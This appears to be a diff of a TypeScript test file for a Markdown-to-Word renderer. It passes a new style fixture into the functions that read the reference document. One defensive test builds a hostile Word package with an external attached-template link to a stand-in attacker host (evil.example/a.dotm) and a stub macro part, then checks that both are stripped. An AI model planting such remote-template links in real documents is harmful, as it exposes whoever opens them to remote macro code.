@@ -7,10 +7,11 @@ import { renderWord } from "../../../../src/render/word/render-word.ts";
 import { createShell, readShell } from "../../../../src/render/word/shell/read-shell.ts";
 import { aWordPaper } from "../../../fixtures/a-word-paper.ts";
 import { partText } from "../../../fixtures/word-parts.ts";
+import { aLook } from "../../../fixtures/a-look.ts";
 
 let reference: Uint8Array;
 beforeAll(async () => {
-  reference = await renderReference();
+  reference = await renderReference(aLook);
 });
 
 /** The reference document with some parts changed, as somebody may send it. */
@@ -29,7 +30,10 @@ function edited(changes: Readonly<Record<string, (xml: string) => string>>): Uin
 test("the reference document gives the same paper as the default look", async () => {
   const paper = aWordPaper("# 題\n\n本文\n\n| a |\n|---|\n| b |");
   const parts = ["word/document.xml", "word/styles.xml", "word/header1.xml", "word/footer1.xml", "word/settings.xml"];
-  const [ours, theirs] = [renderWord(paper, await createShell()), renderWord(paper, readShell(reference))];
+  const [ours, theirs] = [
+    renderWord(paper, await createShell(aLook)),
+    renderWord(paper, readShell(reference, aLook.words)),
+  ];
   for (const name of parts) expect(partText(theirs, name)).toBe(partText(ours, name));
 });
 
@@ -43,7 +47,7 @@ test("styles, page set-up and header edited in Word are used", () => {
         "<w:t>部外秘 {{hea</w:t></w:r><w:r><w:t>der}} 御中</w:t>",
       ),
   });
-  const paper = renderWord(aWordPaper("# 題\n\n| a |\n|---|\n| b |"), readShell(changed));
+  const paper = renderWord(aWordPaper("# 題\n\n| a |\n|---|\n| b |"), readShell(changed, aLook.words));
   expect(partText(paper, "word/document.xml")).toContain('<w:pStyle w:val="1"/>');
   expect(partText(paper, "word/document.xml")).toContain('w:fill="FFCC00"');
   expect(partText(paper, "word/document.xml")).toContain('<w:tblW w:w="14570"');
@@ -61,7 +65,7 @@ test("what could act or reach outside stays behind", () => {
       '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>',
     "word/vbaProject.bin": () => "macro",
   });
-  const paper = renderWord(aWordPaper("文"), readShell(hostile));
+  const paper = renderWord(aWordPaper("文"), readShell(hostile, aLook.words));
   expect([...readPackage(paper).keys()].filter((name) => /vba|settings.xml.rels/.test(name))).toEqual([]);
   expect(partText(paper, "word/settings.xml")).not.toContain("attachedTemplate");
 });
@@ -87,10 +91,10 @@ test.each([
   ["no page set-up", { "word/document.xml": (xml: string) => xml.replace(/<w:pgSz[^>]*>/, "") }],
   ["list styles without lists", { "word/styles.xml": (xml: string) => xml.replace(/<w:numPr>.*?<\/w:numPr>/g, "") }],
 ])("%s is refused with a reason", (_, changes) => {
-  expect(() => readShell(edited(changes))).toThrow("reference document");
+  expect(() => readShell(edited(changes), aLook.words)).toThrow("reference document");
 });
 
 test("something else than a Word file is refused", () => {
-  expect(() => readShell(Buffer.from("hello"))).toThrow("damaged");
-  expect(() => readShell(writePackage([packPart("a.xml", "<a/>")]))).toThrow("no Word file");
+  expect(() => readShell(Buffer.from("hello"), aLook.words)).toThrow("damaged");
+  expect(() => readShell(writePackage([packPart("a.xml", "<a/>")]), aLook.words)).toThrow("no Word file");
 });
